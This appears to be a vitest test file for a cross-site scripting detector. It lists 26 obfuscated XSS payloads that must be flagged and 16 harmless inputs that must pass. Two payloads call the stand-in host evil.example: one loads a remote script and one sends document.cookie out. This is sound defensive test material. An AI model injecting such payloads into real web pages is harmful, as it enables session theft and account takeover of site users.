import { expect, test } from 'vitest';
import { missed, type Row, refused } from './rows.fixture.ts';
import { script } from './script.ts';

const attacks: readonly Row[] = [
  ['query q', '<script>steal()</script>'],
  ['query q', '<ScRiPt src=//evil.example/a.js></sCrIpT>'],
  ['query q', '<scr\0ipt>alert(7)</scr\0ipt>'],
  ['body $.name', '<img src=q onerror=alert(7)>'],
  ['body name', '<svg/onload=prompt`7`>'],
  ['body name', '<details open ontoggle="confirm(7)">'],
  ['query q', '" autofocus onfocus="alert(7)'],
  ['query q', "' onmouseover=alert(7) x='"],
  ['query next url', 'javascript:alert(document.domain)'],
  ['query next url', 'java\tscript:alert(7)'],
  ['query q', '<a href="vbscript:msgbox(7)">x</a>'],
  ['query q', '<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;">'],
  ['query q', "';alert(7)//"],
  ['query q', '"-confirm(7)-"'],
  ['query q', "self['al'+'ert'](7)"],
  ['query q', '[].constructor.constructor("alert(7)")()'],
  ['query q', '</textarea><b>x'],
  ['query q', '<div style="width:expression(alert(7))">'],
  ['query q', '%3Cscript%3Ealert(7)%3C/script%3E'],
  ['query q', '&lt;script&gt;alert(7)&lt;/script&gt;'],
  ['query q', '\\u003cscript\\u003ealert(7)'],
  ['header x-name', 'PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg=='],
  ['query q', '\uff1cscript\uff1ealert(7)\uff1c/script\uff1e'],
  ['query q', "document.location='//evil.example/?'+document.cookie;"],
  ['query q', '<object data="data:text/html;base64,PHNjcmlwdD4="></object>'],
  ['query q', '"o<x>nclick=alert<x>(7)//'],
];
const ordinary: readonly Row[] = [
  ['query q', 'a < b and c > d'],
  ['query q', 'price <10 or >20'],
  ['query q', 'I <3 this, <$5 each'],
  ['body $.note free-text', 'Please alert (by phone) the front desk; confirm (once) the date.'],
  ['body $.html html', '<p>Hello <b>there</b>, <a href="https://example.com/a?b=1">read on</a></p>'],
  ['body $.body free-text', '<h1 class="big">News</h1><img src="https://example.com/a.png" alt="A">'],
  ['query href url', 'javascript:void(0)'],
  ['query q', 'online=1, only=2'],
  ['body $.title', 'JavaScript: the good parts'],
  ['body $.email', '"Kim Lee" <kim@example.com>'],
  ['header user-agent', 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)'],
  ['body $.path', 'List<String> names'],
  ['query q', 'how to prompt a model?'],
  ['body $.token', 'eyJhbGciOiJIUzI1NiJ9'],
  ['query window', 'top[10]'],
  ['body $.template', 'Dear {{name}}, your order <b>{{id}}</b> is on its way'],
];

test('markup, attributes, addresses and expressions that run a script are found, however they are written', () => {
  expect(attacks).toHaveLength(26);
  expect(missed(script, attacks)).toEqual([]);
});

test('comparisons, letters, formatted text and idle links pass', () => {
  expect(ordinary).toHaveLength(16);
  expect(refused(script, ordinary)).toEqual([]);
});
